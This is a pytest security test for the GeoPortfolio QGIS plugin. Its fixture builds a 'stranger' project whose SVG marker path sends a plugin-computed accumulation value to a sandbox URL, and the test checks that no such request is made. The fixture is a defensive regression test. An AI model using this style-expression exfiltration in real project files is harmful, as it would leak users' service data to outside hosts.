"""A project of a stranger whose styles ask for values of the service, as the plugin once offered them."""

from __future__ import annotations

import json

import pytest
from qgis.core import (
    QgsApplication,
    QgsCoordinateReferenceSystem,
    QgsExpression,
    QgsMarkerSymbol,
    QgsPalLayerSettings,
    QgsProject,
    QgsProperty,
    QgsRectangle,
    QgsRuleBasedRenderer,
    QgsSvgMarkerSymbolLayer,
    QgsSymbolLayer,
    QgsVectorLayer,
    QgsVectorLayerSimpleLabeling,
)

from geoportfolio import classFactory
from tests.support.event_loop import let_go, pump_until
from tests.support.oracle import SOURCE

SUM = f"gp_accumulation('locations', $geometry, '{SOURCE}', 20000)"
RULE = "gp_enrichment('flood_zones', 'return_period') is null"
LABEL = "coalesce(gp_address(), name)"
PLACES = {"Hamburg": (9.9882, 53.6304), "Paris": (2.3522, 48.8566)}


@pytest.fixture
def project(tmp_path, sandbox, fresh):
    """The file of points whose label, rule and marker's path name the functions; the path sends the sum."""
    features = [
        {
            "type": "Feature",
            "properties": {"name": name},
            "geometry": {"type": "Point", "coordinates": place},
        }
        for name, place in PLACES.items()
    ]
    data = tmp_path / "places.geojson"
    data.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
    layer = QgsVectorLayer(str(data), "places", "ogr")
    picture = QgsSvgMarkerSymbolLayer("")
    picture.setDataDefinedProperty(
        QgsSymbolLayer.Property.PropertyName,
        QgsProperty.fromExpression(f"'{sandbox.url}/x.svg?sum=' || {SUM}"),
    )
    stolen = QgsMarkerSymbol([picture])
    root = QgsRuleBasedRenderer.Rule(None)
    root.appendChild(QgsRuleBasedRenderer.Rule(stolen))
    root.appendChild(QgsRuleBasedRenderer.Rule(QgsMarkerSymbol.createSimple({"size": "6"}), 0, 0, RULE))
    layer.setRenderer(QgsRuleBasedRenderer(root))
    settings = QgsPalLayerSettings()
    settings.fieldName, settings.isExpression = LABEL, True
    layer.setLabeling(QgsVectorLayerSimpleLabeling(settings))
    layer.setLabelsEnabled(True)
    opened = QgsProject.instance()
    opened.setCrs(QgsCoordinateReferenceSystem("EPSG:4326"))
    opened.addMapLayer(layer)
    file = tmp_path / "stranger.qgz"
    assert opened.write(str(file))
    opened.clear()
    return file


@pytest.fixture
def plugin(window, environment):
    made = classFactory(window)
    made.initGui()
    yield made
    made.unload()
    let_go()


def drawn(window) -> None:
    canvas, drawings = window.mapCanvas(), []
    canvas.mapCanvasRefreshed.connect(lambda: drawings.append(1))
    canvas.setLayers(list(QgsProject.instance().mapLayers().values()))
    canvas.setExtent(QgsRectangle(-12, 36, 32, 62))
    canvas.refreshAllLayers()
    pump_until(lambda: drawings and not canvas.isDrawing())


def test_a_project_whose_styles_ask_the_service_is_drawn_and_sends_nothing(plugin, window, sandbox, project):
    told = []
    QgsApplication.messageLog().messageReceived.connect(lambda text, tag, level: told.append((tag, text)))
    assert QgsProject.instance().read(str(project))
    assert plugin._connections.has_key_ready("environment")
    drawn(window)
    assert not sandbox.requests
    # What a drawing wants later would be among what the panel asks.
    plugin.window().open()
    pump_until(lambda: sandbox.requests and QgsApplication.taskManager().countActiveTasks() == 0)
    drawn(window)
    assert [(seen.path.rsplit("/", 1)[1], dict(seen.query)) for seen in sandbox.requests] == [
        ("provision", {})
    ]
    assert window.texts() == [] and [each for each in told if each[0] == "GeoPortfolio"] == []
    assert QgsExpression.functionIndex("gp_accumulation") == -1
